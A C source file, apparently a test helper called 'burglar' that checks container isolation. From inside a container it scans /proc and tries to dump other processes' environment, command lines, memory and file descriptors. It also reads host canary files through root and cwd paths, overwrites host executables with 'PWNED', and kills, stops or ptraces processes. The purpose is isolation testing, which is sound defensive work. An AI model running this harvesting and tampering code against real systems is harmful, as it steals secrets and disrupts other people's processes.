// SPDX-License-Identifier: MIT
/*
 * burglar: root of a hostile container. It looks at every process that shows up in its /proc, and
 * tries to take what it has, and to get a hold on it. What it could read goes to a file that the
 * test searches for the host's secrets; what it could do goes to another one. Input: the test's own
 * command line. It harms nothing but processes that it can see.
 *
 * usage: burglar DIRECTORY CANARY-PATH SPARE... [kill|stop|trace|look]
 *   DIRECTORY    writes "found" (lines) and "loot" (bytes) there, and "ready" when it has begun
 *   CANARY-PATH  a file of the host: looked for below each root and working directory
 *   SPARE        names (comm) of processes that are left alone: the container's own
 *   the last     what is done to each process, beside looking
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/pidfd.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define LOOT_MAX   (64L << 20)
#define REGION_MAX (256L << 10)

static int found_fd, loot_fd;
static const char *canary_path, *deed;
static char **spare;
static int spare_count;
static long loot_bytes;

static void found(const char *what, int pid, const char *comm, const char *detail)
{
	static char last[600];
	char line[600];
	int n = snprintf(line, sizeof(line), "%s %d %s %s\n", what, pid, comm, detail);

	/* The same again is nothing new. */
	if (strcmp(line, last) == 0)
		return;
	memcpy(last, line, sizeof(last));
	(void)!write(found_fd, line, (size_t)n < sizeof(line) ? (size_t)n : sizeof(line) - 1);
}

static void take(const void *data, ssize_t len)
{
	if (len > 0 && loot_bytes < LOOT_MAX)
		loot_bytes += write(loot_fd, data, (size_t)len);
}

static void take_fd(int fd, long max)
{
	static char buf[65536];
	ssize_t n;

	while (max > 0 && (n = read(fd, buf, sizeof(buf))) > 0) {
		take(buf, n);
		max -= n;
	}
}

/* True if it could be opened for reading. */
static int take_file(int dir, const char *name)
{
	int fd = openat(dir, name, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);

	if (fd < 0)
		return 0;
	take_fd(fd, REGION_MAX);
	close(fd);
	return 1;
}

static void take_memory(int dir, int pid, const char *comm)
{
	int mem = openat(dir, "mem", O_RDWR | O_CLOEXEC), maps = openat(dir, "maps", O_RDONLY);
	static char buf[REGION_MAX];
	char line[512];
	FILE *file;

	if (mem >= 0)
		found("mem", pid, comm, "");
	file = maps >= 0 ? fdopen(maps, "r") : NULL;
	while (file && fgets(line, sizeof(line), file)) {
		unsigned long start = strtoul(line, NULL, 16);
		struct iovec to = { buf, sizeof(buf) }, from = { (void *)start, sizeof(buf) };
		ssize_t n = mem >= 0 ? pread(mem, buf, sizeof(buf), (off_t)start)
				     : process_vm_readv(pid, &to, 1, &from, 1, 0);

		take(buf, n);
	}
	if (file)
		fclose(file);
	if (mem >= 0)
		close(mem);
}

static void take_descriptors(int dir, int pid, const char *comm)
{
	char path[64], target[400];
	int pidfd = pidfd_open(pid, 0);

	for (int i = 0; i < 32; i++) {
		snprintf(path, sizeof(path), "fd/%d", i);
		ssize_t n = readlinkat(dir, path, target, sizeof(target) - 1);
		if (n > 0) {
			target[n] = '\0';
			found("fd", pid, comm, target);
			take_file(dir, path);
		}
		int fd = pidfd >= 0 ? pidfd_getfd(pidfd, i, 0) : -1;
		if (fd >= 0) {
			snprintf(path, sizeof(path), "%d", i);
			found("getfd", pid, comm, path);
			if (fcntl(fd, F_SETFL, O_NONBLOCK) == 0)
				take_fd(fd, REGION_MAX);
			close(fd);
		}
	}
	if (pidfd >= 0)
		close(pidfd);
}

static void take_directories(int dir, int pid, const char *comm)
{
	static const char *const ways[] = { "root/%s", "cwd/%s", "cwd/../../../../..%s" };
	char path[300];

	for (size_t i = 0; i < sizeof(ways) / sizeof(*ways); i++) {
#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wformat-nonliteral"
		snprintf(path, sizeof(path), ways[i], canary_path);
#pragma GCC diagnostic pop
		if (take_file(dir, path))
			found("canary", pid, comm, ways[i]);
	}
}

static void take_namespaces(int dir, int pid, const char *comm)
{
	static const char *const names[] = { "ns/cgroup", "ns/ipc",  "ns/mnt", "ns/net",
					     "ns/pid",	  "ns/user", "ns/uts" };
	char own[64];
	struct stat theirs, ours;

	for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++) {
		int fd = openat(dir, names[i], O_RDONLY | O_CLOEXEC);

		snprintf(own, sizeof(own), "/proc/self/%s", names[i]);
		if (fd < 0)
			continue;
		if (fstat(fd, &theirs) == 0 && stat(own, &ours) == 0 &&
		    theirs.st_ino != ours.st_ino)
			found("namespace", pid, comm, names[i]);
		close(fd);
	}
}

static void write_program(int dir, int pid, const char *comm)
{
	char path[64], target[200] = "";
	int fd = openat(dir, "exe", O_RDONLY | O_CLOEXEC);

	(void)!readlinkat(dir, "exe", target, sizeof(target) - 1);
	if (fd < 0)
		return;
	found("exe", pid, comm, target);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	int again = open(path, O_WRONLY | O_CLOEXEC);
	if (again >= 0) {
		/* Only what is the host's: a program of the container may be written by its root.
		 */
		if (strstr(target, "coreferry") && pwrite(again, "PWNED", 5, 0) == 5)
			found("written", pid, comm, target);
		close(again);
	}
	close(fd);
}

static void do_deed(int pid, const char *comm)
{
	if (strcmp(deed, "kill") == 0 && kill(pid, SIGKILL) == 0) {
		found("killed", pid, comm, "");
	} else if (strcmp(deed, "stop") == 0 && kill(pid, SIGSTOP) == 0) {
		found("stopped", pid, comm, "");
	} else if (strcmp(deed, "trace") == 0 && ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
		found("traced", pid, comm, "");
		ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
		/* And never let go: it ends with us, or by SIGKILL. */
	}
}

static int is_spared(int pid, const char *comm)
{
	for (int i = 0; i < spare_count; i++)
		if (strncmp(comm, spare[i], strlen(spare[i])) == 0)
			return 1;
	return pid == getpid() || pid == 1;
}

static void look_at(int proc, const char *name)
{
	char comm[64] = "";
	int pid = atoi(name), dir = openat(proc, name, O_PATH | O_DIRECTORY | O_CLOEXEC);
	int fd = dir < 0 ? -1 : openat(dir, "comm", O_RDONLY | O_CLOEXEC);

	if (fd >= 0) {
		(void)!read(fd, comm, sizeof(comm) - 1);
		close(fd);
		comm[strcspn(comm, "\n")] = '\0';
	}
	if (fd >= 0 && !is_spared(pid, comm)) {
		found("seen", pid, comm, "");
		do_deed(pid, comm);
		write_program(dir, pid, comm);
		take_file(dir, "environ");
		take_file(dir, "cmdline");
		take_descriptors(dir, pid, comm);
		take_directories(dir, pid, comm);
		take_namespaces(dir, pid, comm);
		take_memory(dir, pid, comm);
	}
	if (dir >= 0)
		close(dir);
}

static int open_output(const char *dir, const char *name)
{
	char path[300];

	snprintf(path, sizeof(path), "%s/%s", dir, name);
	int fd = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0666);
	if (fd < 0) {
		perror(path);
		exit(3);
	}
	return fd;
}

int main(int argc, char **argv)
{
	if (argc < 4) {
		fprintf(stderr,
			"usage: burglar DIRECTORY CANARY-PATH SPARE... kill|stop|trace|look\n");
		return 2;
	}
	canary_path = argv[2];
	spare = argv + 3;
	spare_count = argc - 4;
	deed = argv[argc - 1];
	found_fd = open_output(argv[1], "found");
	loot_fd = open_output(argv[1], "loot");
	DIR *dir = opendir("/proc");
	if (!dir) {
		perror("/proc");
		return 3;
	}
	close(open_output(argv[1], "ready"));
	for (;;) {
		const struct dirent *entry;

		rewinddir(dir);
		while ((entry = readdir(dir)))
			if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9')
				look_at(dirfd(dir), entry->d_name);
		while (waitpid(-1, NULL, WNOHANG | __WALL) > 0)
			;
	}
}
